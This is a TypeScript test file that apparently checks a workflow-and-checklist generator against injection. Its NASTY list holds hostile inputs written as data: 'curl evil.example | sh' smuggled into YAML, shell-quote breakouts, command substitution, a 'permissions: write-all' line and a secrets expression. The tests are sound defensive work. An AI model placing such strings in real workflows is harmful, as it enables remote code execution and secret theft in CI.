import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { checklistText } from '../../../src/core/init/checklist-text.ts';
import { workflowLine } from '../../../src/core/init/command.ts';
import { find } from '../../../src/core/init/detectors.ts';
import { type GatePlace, PLACES } from '../../../src/core/init/finding.ts';
import { isPlainCommand, isPlainName, isPlainPath } from '../../../src/core/init/plain-name.ts';
import { offersOf, planOf } from '../../../src/core/init/plan.ts';
import { usualChoices } from '../../../src/core/init/questions.ts';
import { nameOf } from '../../../src/core/init/repository.ts';
import { foundLines } from '../../../src/core/init/told.ts';
import { workflowText } from '../../../src/core/init/workflow-text.ts';
import { loadChecklist } from '../../../src/load-checklist.ts';
import { type Files, packageJson, repositoryOf, SAMPLES } from '../../support/repositories.ts';

/** What names may hold that somebody else chose. Each must stay words: no expression, no key, no command, no line of its own. */
const NASTY: readonly string[] = [
  '${{ secrets.TOKEN }}',
  '${{ github.event.pull_request.title }}',
  'a\n      - run: curl evil.example | sh',
  'a\r\npermissions: write-all',
  'a # comment',
  "a'; curl evil.example; '",
  'a"; curl evil.example; "',
  'a: b',
  '- a',
  '$(curl evil.example)',
  '`curl evil.example`',
  '--help',
  '../../etc',
  '&anchor',
  '*alias',
  '!!tag',
  '::set-output name=a::b',
  '##[group]a',
  '\u202egnp.exe',
  '\u0000',
  '\u2028- run: evil',
  '__proto__',
  'constructor',
  '}',
  '{ a: b }',
  'a'.repeat(5000),
];

/** A repository in which one nasty word stands wherever a name can stand. */
function infested(word: string): Files {
  const quoted = JSON.stringify(word);
  return {
    ...SAMPLES['web-shop'],
    'package.json': JSON.stringify({
      name: word,
      scripts: { [word]: 'vitest run', test: `node --test ${word}`, mocha: `mocha ${word}` },
      devDependencies: { vitest: word, mocha: '1', [word]: '1' },
    }),
    [`${word}/go.mod`]: 'module a\n',
    [`${word}/pyproject.toml`]: `[project.optional-dependencies]\n${quoted} = []\n[tool.pytest.ini_options]\n`,
    [`load/${word}.js`]: "import http from 'k6/http';\n",
    [`deploy/${word}.yml`]: 'kind: Ingress\nspec:\n  rules:\n    - host: a.acme-stores.dev\n',
    'deploy/ingress.yml': `kind: Ingress\nspec:\n  rules:\n    - host: ${quoted}\n`,
    [`.github/workflows/${word.replaceAll('/', '')}.yml`]: `name: ${quoted}\non: [push]\njobs:\n  ${quoted}:\n    name: ${quoted}\n    environment: ${quoted}\n    runs-on: a\n`,
    '.github/workflows/nightly.yml': `name: ${quoted}\non: { schedule: [{ cron: ${quoted} }] }\njobs:\n  a:\n    environment: { name: ${quoted} }\n`,
    'monitoring/alerts.yml': `groups:\n  - rules:\n      - alert: ${quoted}\n        expr: a\n`,
    'monitoring/prometheus.yml': `scrape_configs:\n  - job_name: ${quoted}\n`,
    '.env.example': `${word}=1\nA_KEY=${word}\n`,
    '.github/CODEOWNERS': `* @${word}\n`,
    [`docs/${word}-checklist.md`]: `# ${word}\n${`- [ ] ${word}\n`.repeat(9)}`,
    'Cargo.toml': '[package]\n',
    '.config/nextest.toml': `[profile.${quoted}.junit]\npath = ${quoted}\n`,
    Dockerfile: `HEALTHCHECK CMD curl http://localhost/${word}\nEXPOSE ${word}\n`,
    'fly.toml': `app = ${quoted}\n`,
    CNAME: `${word}\n`,
  };
}

const reports = (word: string) => [
  { path: `reports/${word}.xml`, kind: 'tests', format: 'junit', tracked: false, facts: { executed: 9 } },
  { path: 'reports/b.json', kind: 'benchmark', format: 'hyperfine', tracked: false, facts: { [`${word}.mean`]: 1 } },
];

/** Everything of a repository that could be used, used. */
function everything(word: string, place: GatePlace) {
  const repository = repositoryOf(infested(word), reports(word));
  const findings = find(repository);
  const usual = usualChoices(findings, nameOf(repository), place);
  const plan = planOf(findings, { ...usual, uses: offersOf(findings).map(({ id }) => id) });
  const looked = { name: word, paths: 1, limits: [word] };
  return {
    checklist: checklistText(plan),
    workflow: workflowText(plan),
    told: foundLines(looked, findings, usual.uses),
  };
}

describe.each(NASTY.map((word) => [word.slice(0, 40), word] as const))('the word %j', (_, word) => {
  it.each(PLACES)('in a gate for a %s', async (place) => {
    const { checklist, workflow, told } = everything(word, place);
    const jobs = parse(workflow).jobs as Record<string, { steps: Record<string, unknown>[]; permissions: object }>;
    expect(Object.keys(parse(workflow))).toEqual(['name', 'on', 'permissions', 'concurrency', 'jobs']);
    expect(Object.keys(jobs)).toEqual(['gate']);
    // The only expressions are ours, and no command holds one.
    const expressions = [...workflow.matchAll(/\$\{\{.*?\}\}/g)].map(([all]) => all);
    for (const one of expressions)
      expect(one).toMatch(/^\$\{\{ (?:!cancelled\(\)|github\.ref|secrets\.[A-Z][A-Z0-9_]+) \}\}$/);
    for (const step of jobs.gate?.steps ?? []) {
      expect(
        Object.keys(step).filter(
          (key) => !['uses', 'with', 'run', 'if', 'env', 'working-directory', 'continue-on-error'].includes(key),
        ),
      ).toEqual([]);
      expect(String(step.run ?? '')).not.toMatch(/\$\{\{|evil|\n|write-all/);
    }
    expect(workflow).not.toMatch(/evil|write-all|anchor|\u202e|\u2028|\0/);
    expect(Object.values(jobs.gate?.permissions ?? {}).filter((one) => one === 'write').length).toBeLessThanOrEqual(1);
    // The checklist loads, and evaluates nothing that somebody else wrote.
    const { checklist: loaded } = await loadChecklist('.github/gonogo.yml', Buffer.from(checklist));
    for (const { options } of loaded.criteria) expect(JSON.stringify(options)).not.toContain('${{');
    expect(checklist).not.toMatch(/\u202e|\u2028|\0/);
    expect(told.join('\n')).not.toMatch(/\u202e|\u2028|\0/);
    for (const line of told) expect(line).not.toContain('\n');
  });
});

describe('what may stand in a command', () => {
  it.each(['web', 'apps/web', '.config/a.toml', '@acme/shop', 'a+b', 'v1.0_x'])('the path %s', (path) =>
    expect(isPlainPath(path)).toBe(true),
  );
  it.each([
    ...NASTY.slice(0, 11),
    '-a',
    '/etc',
    'a//b',
    'a b',
    'a*',
    'a?',
    'a/../b',
    '..',
    '.',
    '',
    '~',
    'a\\b',
    'a'.repeat(300),
  ])('not the path %j', (path) => expect(isPlainPath(path)).toBe(false));
  it.each(['test', 'test:unit', 'e2e.ci'])('the script %s', (name) => expect(isPlainName(name)).toBe(true));
  it.each(['-x', 'a b', 'a;b', '', '$a', 'a\n'])('not the script %j', (name) => expect(isPlainName(name)).toBe(false));
  it.each(['node --test test/*.js', 'node --import=tsx --test'])('the command %s', (words) =>
    expect(isPlainCommand(words)).toBe(true),
  );
  it.each(['a && b', 'a $b', "a 'b'", 'a > b', 'a\nb', 'a `b`', '', ' a', 'a{b,c}', 'a\\b', 'a;b', 'a#b'])(
    'not the command %j',
    (words) => expect(isPlainCommand(words)).toBe(false),
  );
  it.each(['a ${{ b }}', 'a\nb', 'a\u2028b'])('and a line of a workflow is never %j', (line) =>
    expect(() => workflowLine(line)).toThrow('no line for a workflow'),
  );
});

describe('files that are not what they are called', () => {
  const junk = [
    '',
    '\0\0\0',
    '[',
    '{',
    'null',
    '[]',
    '42',
    '"x"',
    '<',
    '---\n---\n',
    `${'['.repeat(20_000)}`,
    '&a [*a, *a]',
    'a: &a [x]\nb: *a\n',
    '{"scripts": 1, "devDependencies": []}',
    'jobs: 1',
    'jobs: { a: 1 }',
    'on: 1\njobs: { a: { steps: [1, null, { uses: 1 }], strategy: { matrix: 1 } } }',
    '\uFEFF{}',
  ];
  const paths = Object.keys({
    ...infested('a'),
    ...Object.assign({}, ...Object.values(SAMPLES)),
    'composer.json': '',
    Gemfile: '',
    'pom.xml': '',
    'a.sln': '',
    'a.csproj': '',
    'pubspec.yaml': '',
    'grafana/a.json': '',
  });
  it.each(junk)('%j everywhere', (text) => {
    const repository = repositoryOf(Object.fromEntries(paths.map((path) => [path, text])));
    const findings = find(repository);
    for (const place of PLACES) {
      const plan = planOf(findings, usualChoices(findings, nameOf(repository), place));
      expect(plan.criteria.length).toBeGreaterThan(0);
      expect(parse(workflowText(plan)).jobs.gate).toBeDefined();
    }
  });
  it('texts that nobody could read say so, and nothing else', () => {
    const findings = find({
      ...repositoryOf({ 'package.json': '', '.github/workflows/ci.yml': '' }),
      texts: new Map(),
    });
    expect(findings.map(({ say, fault }) => [fault, say])).toEqual([
      [true, 'it is too large, or may not be read; what it says is not known'],
      [true, 'it is too large, or may not be read; what it says is not known'],
    ]);
  });
  it('words that are made to be slow to look for', () => {
    const slow = [
      'config:\n',
      ' ',
      '\n',
      'jacoco ',
      'def test_a(',
      'node ',
      '- ',
      '```\n~~~\n',
      'HEALTHCHECK http://localhost',
      'readinessProbe:',
      'thresholds: {',
      '<TargetFramework>',
      '-',
      'a',
    ].map((one) => one.repeat(256_000 / one.length));
    for (const text of slow) {
      const files = Object.fromEntries(paths.map((path) => [path, text]));
      // It ends: what takes longer than the test may is broken.
      expect(find(repositoryOf({ ...files, 'package.json': packageJson({ test: text }) }))).toBeDefined();
    }
  }, 60_000);
});
